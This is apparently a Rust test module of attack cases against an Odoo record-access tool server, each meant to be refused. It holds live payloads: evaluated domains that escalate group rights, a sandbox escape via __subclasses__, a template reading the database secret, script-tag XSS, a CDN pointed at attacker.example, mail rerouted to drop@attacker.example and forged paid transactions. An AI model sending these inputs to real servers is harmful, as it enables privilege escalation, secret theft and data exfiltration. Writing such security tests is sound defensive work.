//! Attacks that once succeeded on real servers, one function a finding: what is refused in each by a fact, not by its name.

use serde_json::{Value, json};

use super::cases::Case;

fn case(tool: &'static str, arguments: Value) -> Case {
    Case { tool, arguments }
}

fn create(model: &str, values: Value) -> Case {
    case("create_record", json!({"model": model, "values": values}))
}

fn update(model: &str, values: Value) -> Case {
    case("update_record", json!({"model": model, "record_ids": [1], "values": values}))
}

fn call(model: &str, method: &str, args: Value, kwargs: Value) -> Case {
    case("execute_method", json!({"model": model, "method": method, "record_ids": [1], "args": args, "kwargs": kwargs}))
}

/// All of them.
pub(crate) fn findings() -> Vec<Case> {
    let rights = [code_in_domains(), template_in_page(), values_in_arguments(), public_user(), tokens_by_mail(), merged_users(), apps()];
    let leaks = [hierarchies(), searched_html(), domains_without_schema()];
    let writes = [named_models(), raw_html(), open_registration(), forged_messages(), payments(), groups(), sent_outside()];
    rights.into_iter().chain(leaks).chain(writes).flatten().collect()
}

/// R1: a stored domain or expression that the server evaluates.
fn code_in_domains() -> Vec<Case> {
    let code = "[('id', '=', user.env['res.groups'].sudo().browse(2).write({'users': [(4, 7)]}) and 3)]";
    let parameter = "[('id', '=', user.env['ir.config_parameter'].sudo().set_param('a', 'b'))]";
    vec![
        create("gamification.goal.definition", json!({"name": "x", "domain": code, "computation_mode": "count"})),
        update("gamification.goal.definition", json!({"batch_user_expression": "user.env"})),
        update("gamification.goal.definition", json!({"compute_code": "result = 1"})),
        update("gamification.challenge", json!({"user_domain": code})),
        create("gamification.challenge", json!({"name": "x", "user_domain": parameter})),
        update("crm.team", json!({"assignment_domain": parameter})),
        update("crm.team", json!({"assignment_domain": "[('id', 'in', [x for x in ().__class__.__base__.__subclasses__()])]"})),
        update("event.lead.rule", json!({"event_registration_filter": code})),
    ]
}

/// R2: template code in a public page.
fn template_in_page() -> Vec<Case> {
    let page = json!({"name": "p", "sections_arch": "<p><t t-out=\"request.env['ir.config_parameter'].sudo().get_param('database.secret')\"/></p>"});
    vec![
        call("website", "new_page", json!([]), page),
        call("website", "new_page", json!(["p"]), json!({})),
        call("website", "clone_page", json!([1]), json!({})),
        call("website", "configurator_apply", json!([]), json!({"selected_features": []})),
        call("website", "configurator_addons_apply", json!([]), json!({})),
        call("website.menu", "save", json!([1, {"data": [{"url": "javascript:alert(1)"}]}]), json!({})),
        create("website.page", json!({"name": "p", "url": "/p"})),
    ]
}

/// R3: values of records, and commands, in the arguments of a method.
fn values_in_arguments() -> Vec<Case> {
    let user = json!([[0, 0, {"name": "Evil", "login": "evil@attacker.example"}]]);
    let partner = json!([[0, 0, {"name": "Evil", "user_ids": user}]]);
    let event = json!([[0, 0, {"name": "m", "start": "2026-12-01 10:00:00", "stop": "2026-12-01 11:00:00", "partner_ids": partner}]]);
    vec![
        call("crm.lead", "action_set_lost", json!([]), json!({"calendar_event_ids": event})),
        call("crm.lead", "action_set_lost", json!([]), json!({"partner_id": 3, "lost_reason_id": 1})),
        call("crm.lead", "action_set_lost", json!([]), json!({"message_ids": [[0, 0, {"body": "x", "author_id": 1}]]})),
        call("crm.lead", "action_set_lost", json!([]), json!({"lost_reason_id": [[1, 1, {"user_ids": user}]]})),
        call("project.task", "plan_task_in_calendar", json!([{"user_ids": user}]), json!({})),
        call("project.task", "action_create_from_template", json!([{"partner_id": partner}]), json!({})),
        call("hr.employee", "create_version", json!([{"name": "x"}]), json!({})),
        call("fleet.vehicle", "create_driver_history", json!([{"driver_id": 3}]), json!({})),
        call("pos.order", "sync_from_ui", json!([[{"partner_id": 1}]]), json!({})),
        call("res.partner", "activity_schedule", json!([]), json!({"res_model_id": 80, "res_id": 2})),
        call("res.partner", "activity_schedule", json!([]), json!({"act_type_xmlid": {"a": "b"}})),
    ]
}

/// R4: who the visitors of a website are.
fn public_user() -> Vec<Case> {
    vec![update("website", json!({"user_id": 2})), create("website", json!({"name": "x", "user_id": 2}))]
}

/// R5: a template that is rendered for somebody else.
fn tokens_by_mail() -> Vec<Case> {
    let template = |model: &str, method: &str| call(model, method, json!([1]), json!({}));
    vec![
        call("res.partner", "activity_send_mail", json!([]), json!({"template_id": 1})),
        template("res.partner", "activity_send_mail"),
        template("project.task", "rating_send_request"),
        template("sale.order", "message_mail_with_source"),
        // What keeps a template of any model renders it for records of its own; `templates` judges those of one model.
        create("event.type.mail", json!({"template_ref": "mail.template,1"})),
        update("mail.activity.type", json!({"mail_template_ids": [[4, 1]]})),
    ]
}

/// R6: the address of a user by way of a merge.
fn merged_users() -> Vec<Case> {
    let wizard = "base.partner.merge.automatic.wizard";
    let by_itself = |method: &str| call(wizard, method, json!([]), json!({}));
    ["action_start_automatic_process", "action_start_manual_process", "action_update_all_process", "action_skip"].map(by_itself).to_vec()
}

/// R8: an app installed by a field or a method.
fn apps() -> Vec<Case> {
    vec![
        update("pos.config", json!({"module_pos_discount": true})),
        create("pos.config", json!({"name": "x", "module_pos_restaurant": true})),
        call("website", "configurator_apply", json!([]), json!({})),
        call("onboarding.onboarding.step", "action_set_just_done", json!([]), json!({})),
        update("onboarding.onboarding.step", json!({"title": "x"})),
    ]
}

/// L1: methods that an add-on gives to every model.
fn hierarchies() -> Vec<Case> {
    let specification = json!({"name": {}, "user_ids": {"fields": {"login": {}}}});
    let any =
        json!({"domain": [["user_ids", "any", [["login", "=like", "adm%"]]]], "specification": specification, "parent_field": "parent_id"});
    let mut cases = vec![call("res.partner", "hierarchy_read", json!([]), any)];
    for method in [
        "update_field_translations_sha",
        "web_update_field_translations",
        "get_import_templates",
        "mail_allowed_qweb_expressions",
        "with_delay",
        "delayable",
        "search_panel_select_range",
        "web_save",
    ] {
        cases.push(call("res.partner", method, json!([]), json!({})));
    }
    cases
}

/// L2: a text is searched for what is not shown of it.
fn searched_html() -> Vec<Case> {
    let search = |model: &str, field: &str, operator: &str, text: &str| {
        case("search_count", json!({"model": model, "domain": [[field, operator, text]]}))
    };
    vec![
        search("mail.message", "body", "like", "token=275a"),
        search("mail.message", "body", "=like", "%token=a%"),
        search("mail.message", "body", "ilike", "token=a"),
        search("mail.message", "body", "not ilike", "access_token"),
        search("mail.message", "body", "ilike", "2f4"),
        search("res.partner", "message_ids.body", "like", "a"),
        case("search_count", json!({"model": "res.partner", "domain": [["message_ids", "any", [["body", "=ilike", "%a1%"]]]]})),
    ]
}

/// L4: domains in arguments and in texts.
fn domains_without_schema() -> Vec<Case> {
    let users = json!([["create_uid", "any", [["login", "=", "admin"]]]]);
    vec![
        call("pos.order", "search_paid_order_ids", json!([]), json!({"domain": users})),
        call("res.partner", "rating_get_stats", json!([users]), json!({})),
        call("resource.calendar", "get_work_hours_count", json!([]), json!({"domain": users})),
        update("crm.team", json!({"assignment_domain": "[('team_id.member_ids', 'any', [('login', '=', 'x')])]"})),
        update("crm.team", json!({"assignment_domain": "[('team_id.member_ids.login', '=', 'x')]"})),
        update("crm.team.member", json!({"assignment_domain": "[('team_id.user_id.login', '=', 'x')]"})),
        call("pos.payment.method", "get_provider_status", json!([["x"]]), json!({})),
    ]
}

/// W1: a model named in an argument.
fn named_models() -> Vec<Case> {
    let find = |model: &str| call("crm.lead", "find_or_create_record", json!([]), json!({"model_name": model, "name": "x"}));
    ["ir.sequence", "ir.ui.menu", "mail.alias.domain", "discuss.channel", "mail.message", "res.groups.privilege"].map(find).to_vec()
}

/// W2: HTML that reaches browsers as it is.
fn raw_html() -> Vec<Case> {
    vec![
        update("website.menu", json!({"mega_menu_content": "<script>alert(1)</script>"})),
        update("product.ribbon", json!({"html": "<script>alert(1)</script>"})),
        update("website", json!({"cdn_url": "https://attacker.example", "cdn_activated": true})),
        update("website", json!({"cdn_filters": ".*"})),
        update("product.image", json!({"embed_code": "<script/>"})),
    ]
}

/// W3: registration for everybody.
fn open_registration() -> Vec<Case> {
    vec![update("website", json!({"auth_signup_uninvited": "b2c"}))]
}

/// W6: records and arguments that speak for somebody else.
fn forged_messages() -> Vec<Case> {
    let post = |kwargs: Value| call("res.partner", "message_post", json!([]), kwargs);
    vec![
        post(json!({"body": "x", "reply_to": "drop@attacker.example"})),
        post(json!({"body": "x", "outgoing_email_to": "drop@attacker.example"})),
        post(json!({"body": "x", "tracking_value_ids": [[0, 0, {"field_id": 1}]]})),
        post(json!({"body": "x", "partner_ids": [[0, 0, {"name": "x"}]]})),
        post(json!({"body": {"__html": "x"}})),
        create("mail.message.translation", json!({"message_id": 1, "body": "x", "source_lang": "en", "target_lang": "fr"})),
        create("mail.message.reaction", json!({"message_id": 1, "partner_id": 3, "content": "x"})),
        create("mail.message.schedule", json!({"mail_message_id": 1})),
        create("mail.link.preview", json!({"source_url": "https://attacker.example"})),
        create("rating.rating", json!({"rating": 5})),
        create("gamification.karma.tracking", json!({"user_id": 2, "new_value": 9})),
        create("web_tour.tour", json!({"name": "x"})),
        call("delivery.carrier", "log_xml", json!(["x", "y"]), json!({})),
    ]
}

/// W7: a payment that nobody made.
fn payments() -> Vec<Case> {
    vec![create("payment.transaction", json!({"state": "done", "amount": 10})), update("payment.transaction", json!({"state": "done"}))]
}

/// W8: what administrators alone change.
fn groups() -> Vec<Case> {
    vec![
        update("res.groups", json!({"name": "x"})),
        create("res.groups", json!({"name": "Readers"})),
        create("res.company", json!({"name": "x"})),
        update("res.company", json!({"phone": "1"})),
        update("res.lang", json!({"active": true})),
    ]
}

/// W9: what leaves Odoo without a question.
fn sent_outside() -> Vec<Case> {
    vec![call("res.partner", "message_notify", json!([]), json!({"body": "x", "partner_ids": [3]}))]
}
